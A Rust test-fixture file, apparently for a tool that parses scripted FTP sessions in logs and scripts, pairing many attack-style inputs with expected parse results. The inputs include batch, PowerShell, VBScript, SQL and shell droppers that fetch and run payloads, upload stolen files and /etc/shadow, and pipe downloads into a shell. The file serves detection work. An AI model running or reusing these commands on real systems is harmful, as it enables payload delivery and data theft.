//! Texts that write the script: cmd.exe, PowerShell, VBScript, JScript, SQL, C, and the shell of Unix.

use super::{Variant, variant};

pub(super) const VARIANTS: &[Variant] = &[
    variant(
        "V01 one line of echoes, -n, the program started afterwards",
        &[(
            "run.bat",
            "echo open 203.0.113.101 21>j.txt&echo user mallory t0psecret>>j.txt&echo bin>>j.txt&echo get stage.exe>>j.txt&echo bye>>j.txt&ftp -n -v -s:j.txt&del j.txt&start stage.exe",
        )],
        &[
            "203.0.113.101:21 as 'mallory'/'t0psecret'",
            "  gets stage.exe as stage.exe, binary",
            "windows runs j.txt (1)",
        ],
    ),
    variant(
        "V02 blanks before the redirection belong to the answers",
        &[(
            "run.bat",
            "echo open 203.0.113.102 > j.txt\r\necho anonymous >> j.txt\r\necho me@here.example >> j.txt\r\necho binary >> j.txt\r\necho get nc.exe >> j.txt\r\necho bye >> j.txt\r\nftp -s:j.txt\r\n",
        )],
        &[
            "203.0.113.102:21 as 'anonymous '/'me@here.example ' meaning anonymous/me@here.example",
            "  gets nc.exe as nc.exe, binary",
            "windows runs j.txt (1)",
        ],
    ),
    variant(
        "V03 USER and PASS typed where the client asks for them",
        &[(
            "note.log",
            "cmd.exe /c \"@echo open files.example.com 21>q.txt&@echo USER eve>>q.txt&@echo PASS 3vePass>>q.txt&@echo binary>>q.txt&@echo GET /tools/p.exe>>q.txt&@echo quit>>q.txt&@ftp -s:q.txt -v\"",
        )],
        &[
            "files.example.com:21 as 'USER eve'/'PASS 3vePass' meaning eve/3vePass",
            "  gets /tools/p.exe as p.exe, binary",
            "! answer-reads-like-command",
            "windows runs q.txt (1)",
        ],
    ),
    variant(
        "V04 the password on the line after user, -n",
        &[(
            "run.cmd",
            "echo open 203.0.113.104 21> j.txt\r\necho USER lab>> j.txt\r\necho labpw>> j.txt\r\necho bin >> j.txt\r\necho GET nc.exe >> j.txt\r\necho bye >> j.txt\r\nftp -v -n -s:j.txt\r\n",
        )],
        &["203.0.113.104:21 as 'lab'/'labpw'", "  gets nc.exe as nc.exe, binary", "windows runs j.txt (1)"],
    ),
    variant(
        "V05 a missing password eats the next command",
        &[(
            "run.cmd",
            "echo open 203.0.113.105>c.txt\r\necho USER anonymous>>c.txt\r\necho binary>>c.txt\r\necho PUT c:\\windows\\system32\\drivers\\etc\\hosts>>c.txt\r\necho bye>>c.txt\r\nftp -v -n -s:c.txt\r\n",
        )],
        &[
            "203.0.113.105:21 as 'anonymous'/'binary'",
            "  puts c:\\windows\\system32\\drivers\\etc\\hosts as hosts, ascii",
            "! answer-reads-like-command",
            "windows runs c.txt (1)",
        ],
    ),
    variant(
        "V06 a digit by itself before the redirection is a handle",
        &[("run.cmd", "echo open 203.0.113.106>x&echo user mallory 1>>x&echo pw6>>x&echo get a.exe>>x&ftp -n -s:x")],
        &["203.0.113.106:21 as 'mallory'/'pw6'", "  gets a.exe as a.exe, ascii", "windows runs x (1)"],
    ),
    variant(
        "V07 a block in parentheses, redirected once",
        &[(
            "run.cmd",
            "(echo open 203.0.113.107 2121&echo mallory&echo pw1&echo binary&echo get stage2.dll C:\\ProgramData\\s.dll&echo bye)>%TEMP%\\t.txt&ftp -i -s:%TEMP%\\t.txt",
        )],
        &[
            "203.0.113.107:2121 as 'mallory'/'pw1'",
            "  gets stage2.dll as C:\\ProgramData\\s.dll, binary",
            "windows runs %TEMP%\\t.txt (1)",
        ],
    ),
    variant(
        "V08 the redirection first, a caret, a quoted path",
        &[(
            "run.cmd",
            ">s.dat echo open 203.0.113.108\r\n>>s.dat echo mallory\r\n>>s.dat echo p^&w\r\n>>s.dat echo put \"C:\\Users\\kim\\my docs\\a b.zip\" loot.zip\r\n>>s.dat echo quit\r\nftp -s:s.dat\r\n",
        )],
        &[
            "203.0.113.108:21 as 'mallory'/'p&w'",
            "  puts C:\\Users\\kim\\my docs\\a b.zip as loot.zip, ascii",
            "windows runs s.dat (1)",
        ],
    ),
    variant(
        "V09 empty answers, and a last line without an end",
        &[("run.cmd", "echo open 203.0.113.109>k&echo.>>k&echo.>>k&echo get r.txt>>k&<nul set /p=bye>>k&ftp -s:k")],
        &["203.0.113.109:21 as ''/''", "  gets r.txt as r.txt, ascii", "  uncertain", "windows runs k (1)"],
    ),
    variant(
        "what a shell leaves open stays one word",
        &[(
            "run.sh",
            "#!/bin/sh\nftp -n 203.0.113.130 <<E\nuser joe $(cat /etc/pw)\nput /a/b b_$(date +%Y%m%d).gz\nput \"$(basename \"$FILE\")\" in\nquit\nE\n",
        )],
        &[
            "203.0.113.130:21 as 'joe'/'$(cat /etc/pw)'",
            "  puts /a/b as b_$(date +%Y%m%d).gz, binary",
            "  puts $(basename \"$FILE\") as in, binary",
            "  unknown $(cat /etc/pw)",
            "  unknown $(date +%Y%m%d)",
            "  unknown $FILE",
            "  unknown $(basename \"$FILE\")",
            "bsd runs - (1)",
        ],
    ),
    variant(
        "what a command line leaves open stays one word",
        &[("run.sh", "#!/bin/sh\nlftp -u joe,pw 203.0.113.131 -e \"put /a/b.tgz -o $(date +%F).tgz; bye\"\n")],
        &["203.0.113.131:21 as 'joe'/'pw'", "  puts /a/b.tgz as $(date +%F).tgz, binary", "lftp runs - (1)"],
    ),
    variant(
        "what PowerShell leaves open stays one word",
        &[(
            "run.ps1",
            "@\"\nopen 203.0.113.132\nuser joe pw\nput C:\\a.zip a_$(Get-Date -Format yyyyMMdd).zip\nbye\n\"@ | Out-File -Encoding ascii f.txt\nftp -n -s:f.txt\n",
        )],
        &[
            "203.0.113.132:21 as 'joe'/'pw'",
            "  puts C:\\a.zip as a_$(Get-Date -Format yyyyMMdd).zip, ascii",
            "  unknown $(Get-Date -Format yyyyMMdd)",
            "windows runs f.txt (1)",
        ],
    ),
    variant(
        "what a batch file leaves open stays one word",
        &[(
            "run.cmd",
            "echo open 203.0.113.133>f\r\necho user joe pw>>f\r\necho put C:\\a.zip a_%time: =0%.zip>>f\r\nftp -n -s:f\r\n",
        )],
        &[
            "203.0.113.133:21 as 'joe'/'pw'",
            "  puts C:\\a.zip as a_%time: =0%.zip, ascii",
            "  unknown %time: =0%",
            "windows runs f (1)",
        ],
    ),
    variant(
        "the file itself, read by a loop",
        &[(
            "run.cmd",
            "@echo off\r\n(for /f \"tokens=1* delims=:\" %%a in ('findstr /b /c:\"ftp:\" \"%~f0\"') do echo %%b)>%tmp%\\o.t\r\nftp -n -s:%tmp%\\o.t\r\nexit /b\r\nftp:open 203.0.113.134\r\nftp:user m n\r\nftp:get q.cab\r\nftp:bye\r\n",
        )],
        &["203.0.113.134:21 as 'm'/'n'", "  gets q.cab as q.cab, ascii", "windows runs %tmp%\\o.t (1)"],
    ),
    variant(
        "the file itself, fed to the client",
        &[("run.cmd", "ftp -n -v <%0\r\ngoto :eof\r\nopen 203.0.113.135\r\nuser a b\r\nget x\r\nbye\r\n")],
        &[
            "203.0.113.135:21 as 'a'/'b'",
            "  gets x as x, ascii",
            "  refuses ftp -n -v <%0",
            "  refuses goto :eof",
            "windows runs %0 (1)",
        ],
    ),
    variant(
        "requests that a web server logged",
        &[(
            "access.log",
            "198.51.100.7 - - [10/Oct/2024:13:55:36 +0000] \"GET /up.php?cmd=certutil%20-urlcache%20-f%20ftp://203.0.113.136/a.exe%20a.exe HTTP/1.1\" 200 5\n\
             198.51.100.7 - - [10/Oct/2024:13:55:37 +0000] \"GET /up.php?cmd=cmd+/c+curl+-T+a.zip+ftp://u:p@203.0.113.137/ HTTP/1.1\" 200 5\n",
        )],
        &[
            "203.0.113.136:21 as 'anonymous'/'IEUser@'",
            "  gets a.exe as a.exe, binary",
            "203.0.113.137:21 as 'u'/'p'",
            "  puts a.zip as a.zip, binary",
            "certutil runs - (1)",
            "curl runs - (1)",
        ],
    ),
    variant(
        "requests to a proxy, and sentences, are no calls",
        &[
            ("proxy.log", "1.1 10.0.0.5 \"GET ftp://203.0.113.138/pub/x.exe HTTP/1.1\" 200\n"),
            ("access.log", "1.2.3.4 - - [x] \"GET /fetch?u=ftp://203.0.113.138/x.exe HTTP/1.1\" 200 1\n"),
            (
                "notes.txt",
                "Start ftp://203.0.113.138/ in your browser.\nget ftp://203.0.113.138/x.tgz from the server and then go on\nAxel wrote: see ftp://203.0.113.138/\n",
            ),
            ("typed.txt", "C:\\> ftp 203.0.113.139\nftp> get mimi.exe\nftp> put secret.zip\n"),
        ],
        &["windows runs - (0)"],
    ),
    variant(
        "the list of the Run dialog in an export of the registry",
        &[(
            "r.reg",
            "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU]\r\n\"b\"=\"cmd /c ftp -A -s:c:\\\\f.txt 203.0.113.140\\\\1\"\r\n",
        )],
        &["windows runs c:\\f.txt (0) anonymously"],
    ),
    variant(
        "commands of Unix in a text that is no script",
        &[
            ("x", "wget ftp://203.0.113.141/mips; chmod +x mips; ./mips; rm -rf mips\n"),
            ("y", "/bin/busybox ftpget -u bot -p pw 203.0.113.142 a a\n"),
            (
                "access.log",
                "1.2.3.4 - - [x] \"GET /shell?cd+/tmp;wget+ftp://203.0.113.143/jaws;sh+/tmp/jaws HTTP/1.1\" 200 12\n",
            ),
        ],
        &[
            "203.0.113.143:21 as 'anonymous'/'-wget@'",
            "  gets jaws as jaws, binary",
            "203.0.113.141:21 as 'anonymous'/'-wget@'",
            "  gets mips as mips, binary",
            "203.0.113.142:21 as 'bot'/'pw'",
            "  gets a as a, binary",
            "wget runs - (1)",
            "wget runs - (1)",
            "busybox runs - (1)",
        ],
    ),
    variant(
        "what was typed into PowerShell",
        &[("ConsoleHost_history.txt", "cd C:\\t\ncurl.exe -T loot.zip ftp://u:p@files.example.net/in/\n")],
        &["files.example.net:21 as 'u'/'p'", "  puts loot.zip in C:\\t as loot.zip in in, binary", "curl runs - (1)"],
    ),
    variant(
        "V10 built from variables",
        &[(
            "run.cmd",
            "set H=203.0.113.110&set F=%TEMP%\\~t.tmp\r\necho open %H% 8021>%F%\r\necho user %COMPUTERNAME% x>>%F%\r\necho lcd %USERPROFILE%\\Desktop>>%F%\r\necho mput *.docx>>%F%\r\necho bye>>%F%\r\nftp -n -i -s:%F%\r\n",
        )],
        &[
            "203.0.113.110:8021 as '%COMPUTERNAME%'/'x'",
            "  puts all of *.docx in %USERPROFILE%\\Desktop as *.docx, ascii",
            "  unknown %COMPUTERNAME%",
            "  unknown %USERPROFILE%",
            "windows runs %TEMP%\\~t.tmp (1)",
        ],
    ),
    variant(
        "V11 one script for each file of a loop",
        &[(
            "run.cmd",
            "for %%f in (C:\\d\\*.xls) do (echo open 203.0.113.111>%%~nf.ftp&echo u1>>%%~nf.ftp&echo p1>>%%~nf.ftp&echo send \"%%f\">>%%~nf.ftp&echo bye>>%%~nf.ftp&ftp -s:%%~nf.ftp)",
        )],
        &["203.0.113.111:21 as 'u1'/'p1'", "  puts %f as %f, ascii", "  unknown %f", "windows runs %~nf.ftp (1)"],
    ),
    variant(
        "V12 a worm's command line that cleans up",
        &[(
            "worm.txt",
            "cmd /c net stop SharedAccess &echo open host.example.net 21 >> ij &echo user p4214 b007 >> ij &echo binary >> ij &echo get update.exe >> ij &echo bye >> ij &ftp -n -v -s:ij &del ij &update.exe &exit",
        )],
        &["host.example.net:21 as 'p4214'/'b007'", "  gets update.exe as update.exe, binary", "windows runs ij (1)"],
    ),
    variant(
        "V13 -A with the host in the script",
        &[(
            "run.cmd",
            "echo open 203.0.113.113> f.txt & echo bin>>f.txt & echo get x.exe>>f.txt & echo bye>>f.txt & ftp -A -s:f.txt",
        )],
        &[
            "203.0.113.113:21 as 'anonymous'/'<localuser>@<localhost>'",
            "  gets x.exe as x.exe, binary",
            "windows runs f.txt (1) anonymously",
        ],
    ),
    variant(
        "V29 the shell alone",
        &[("run.cmd", "echo !calc.exe > cmds.txt && ftp -s:cmds.txt")],
        &["(no host)", "  runs calc.exe", "windows runs cmds.txt (1)"],
    ),
    variant(
        "V39 a here-string, written as ASCII",
        &[(
            "a.ps1",
            "$s=@\"\nopen 203.0.113.139\nmallory\npw\nbinary\nput C:\\t\\d.zip\nquit\n\"@\n$s|Out-File -Encoding ASCII $env:TEMP\\c.txt; ftp.exe -i -s:$env:TEMP\\c.txt; Remove-Item $env:TEMP\\c.txt\n",
        )],
        &[
            "203.0.113.139:21 as 'mallory'/'pw'",
            "  puts C:\\t\\d.zip as d.zip, binary",
            "windows runs $env:TEMP\\c.txt (1)",
        ],
    ),
    variant(
        "V39 the same by the default encoding, which the client cannot read",
        &[(
            "a.ps1",
            "$s=@\"\nopen 203.0.113.139\nmallory\npw\nbinary\nput C:\\t\\d.zip\nquit\n\"@\n$s > c.txt; ftp.exe -i -s:c.txt\n",
        )],
        &[
            "203.0.113.139:21 as 'mallory'/'pw'",
            "  puts C:\\t\\d.zip as d.zip, binary",
            "! utf-16",
            "windows runs c.txt (1)",
        ],
    ),
    variant(
        "V40 an array to Set-Content",
        &[(
            "a.ps1",
            "\"open 203.0.113.140\",\"user mallory pw\",\"bin\",\"get a.ps1\",\"bye\"|Set-Content f.txt;& ftp -n \"-s:f.txt\"\n",
        )],
        &["203.0.113.140:21 as 'mallory'/'pw'", "  gets a.ps1 as a.ps1, binary", "windows runs f.txt (1)"],
    ),
    variant(
        "V41 a tick-n between single quotes is no line end",
        &[(
            "a.txt",
            "powershell -c \"sc f.txt ('open {0}`nuser {1} {2}`nget x`nbye' -f '203.0.113.141','mallory','pw');ftp -n -s:f.txt\"\n",
        )],
        &["(no host)", "  refuses open 203.0.113.141`nuser mallory pw`nget x`nbye", "windows runs f.txt (1)"],
    ),
    variant(
        "V41 between double quotes it is one",
        &[(
            "a.ps1",
            "sc f.txt (\"open {0}`nuser {1} {2}`nget x`nbye\" -f '203.0.113.141','mallory','pw');ftp -n -s:f.txt\n",
        )],
        &["203.0.113.141:21 as 'mallory'/'pw'", "  gets x as x, ascii", "windows runs f.txt (1)"],
    ),
    variant(
        "V42 VBScript and the file system object",
        &[(
            "a.vbs",
            "Set f=CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"t.ftp\",True)\nf.WriteLine \"open 203.0.113.142\"\nf.WriteLine \"mallory\"\nf.WriteLine \"pw\"\nf.WriteLine \"get \" & Chr(34) & \"my file.exe\" & Chr(34)\nf.WriteLine \"bye\"\nf.Close\nCreateObject(\"WScript.Shell\").Run \"ftp -s:t.ftp\",0,True\n",
        )],
        &["203.0.113.142:21 as 'mallory'/'pw'", "  gets my file.exe as my file.exe, ascii", "windows runs t.ftp (1)"],
    ),
    variant(
        "V43 VBA and Print #",
        &[(
            "m.bas",
            "Sub Send()\nOpen \"C:\\c.ftp\" For Output As #1\nPrint #1, \"open 203.0.113.143\"\nPrint #1, \"user mallory pw\"\nPrint #1, \"put C:\\a.xls\"\nPrint #1, \"bye\"\nClose #1\nShell \"ftp.exe -n -i -s:C:\\c.ftp\", vbHide\nEnd Sub\n",
        )],
        &["203.0.113.143:21 as 'mallory'/'pw'", "  puts C:\\a.xls as a.xls, ascii", "windows runs C:\\c.ftp (1)"],
    ),
    variant(
        "V44 JScript",
        &[(
            "a.js",
            "var f=new ActiveXObject(\"Scripting.FileSystemObject\").OpenTextFile(\"o.txt\",2,true);f.Write(\"open 203.0.113.144\\r\\nmallory\\r\\npw\\r\\nget q.exe\\r\\nbye\\r\\n\");f.Close();new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c ftp -s:o.txt\",0);\n",
        )],
        &["203.0.113.144:21 as 'mallory'/'pw'", "  gets q.exe as q.exe, ascii", "windows runs o.txt (1)"],
    ),
    variant(
        "V44 the same in an HTML application",
        &[(
            "a.hta",
            "<html><head><script language=\"JScript\">var f=new ActiveXObject(\"Scripting.FileSystemObject\").OpenTextFile(\"o.txt\",2,true);f.Write(\"open 203.0.113.144\\r\\nmallory\\r\\npw\\r\\nget q.exe\\r\\nbye\\r\\n\");f.Close();new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c ftp -s:o.txt\",0);</script></head></html>\n",
        )],
        &["203.0.113.144:21 as 'mallory'/'pw'", "  gets q.exe as q.exe, ascii", "windows runs o.txt (1)"],
    ),
    variant(
        "V45 SQL that runs command lines",
        &[(
            "a.sql",
            "exec master..xp_cmdshell 'echo open 203.0.113.145 >d:\\f.txt';exec master..xp_cmdshell 'echo mallory>>d:\\f.txt';exec master..xp_cmdshell 'echo pw>>d:\\f.txt';exec master..xp_cmdshell 'echo get lc.exe>>d:\\f.txt';exec master..xp_cmdshell 'echo bye>>d:\\f.txt';exec master..xp_cmdshell 'ftp -s:d:\\f.txt' \n",
        )],
        &["203.0.113.145:21 as 'mallory'/'pw'", "  gets lc.exe as lc.exe, ascii", "windows runs d:\\f.txt (1)"],
    ),
    variant(
        "V46 C, a template",
        &[(
            "a.c",
            "#include <stdio.h>\nint main(int n, char **v) {\n FILE *fp = fopen(\"c.txt\", \"w\");\n fprintf(fp,\"open 203.0.113.146 2121\\nuser mallory pw\\ntype binary\\ncd shared\\nput %s\\nquit\",fn);fclose(fp);system(\"ftp -n -s:c.txt\");\n}\n",
        )],
        &[
            "! template",
            "203.0.113.146:2121 as 'mallory'/'pw'",
            "  puts %s as %s in shared, binary",
            "  unknown %s",
            "windows runs c.txt (1)",
        ],
    ),
    variant(
        "V47 a scheduled task with quotes in quotes",
        &[(
            "a.bat",
            "schtasks /create /tn U /tr \"powershell -w hidden -c \\\"ftp -A -s:'C:\\ProgramData\\W\\ftp.txt'\\\"\" /sc minute /mo 10\n",
        )],
        &["windows runs C:\\ProgramData\\W\\ftp.txt (0) anonymously"],
    ),
    variant(
        "V49 a here-document",
        &[("a.sh", "#!/bin/sh\nftp -n 203.0.113.149 <<EOF\nuser mallory pw\nbinary\nput /etc/shadow sh\nbye\nEOF\n")],
        &["203.0.113.149:21 as 'mallory'/'pw'", "  puts /etc/shadow as sh, binary", "bsd runs - (1)"],
    ),
    variant(
        "V50 quoted, indented by tabs, -i and prompt",
        &[(
            "a.sh",
            "#!/bin/sh\nftp -inv <<-'END'\n\topen 203.0.113.150 2121\n\tuser \"$U\" \"$P\"\n\tprompt\n\tmget *.log\n\tbye\n\tEND\n",
        )],
        &["203.0.113.150:2121 as '$U'/'$P'", "  gets all of *.log as *.log, binary", "  uncertain", "bsd runs - (1)"],
    ),
    variant(
        "V51 printf into a pipe",
        &[("a.sh", "#!/bin/sh\nprintf 'open 203.0.113.151\\nuser mallory pw\\nget a.sh\\nbye\\n' | ftp -n\n")],
        &["203.0.113.151:21 as 'mallory'/'pw'", "  gets a.sh as a.sh, binary", "bsd runs - (1)"],
    ),
    variant(
        "V52 a group of echoes into a pipe",
        &[(
            "a.sh",
            "#!/bin/bash\n{ echo open 203.0.113.152; sleep 1; echo user mallory pw; echo \"get a.bin /tmp/.a\"; echo quit; } | ftp -n\n",
        )],
        &["203.0.113.152:21 as 'mallory'/'pw'", "  gets a.bin as /tmp/.a, binary", "bsd runs - (1)"],
    ),
    variant(
        "V54 a download into a shell",
        &[("a.sh", "#!/bin/sh\nftp -n <<EOF\nopen 203.0.113.154\nuser mallory pw\nget run.sh |sh\nbye\nEOF\n")],
        &["203.0.113.154:21 as 'mallory'/'pw'", "  gets run.sh as |sh, binary", "  runs sh", "bsd runs - (1)"],
    ),
];
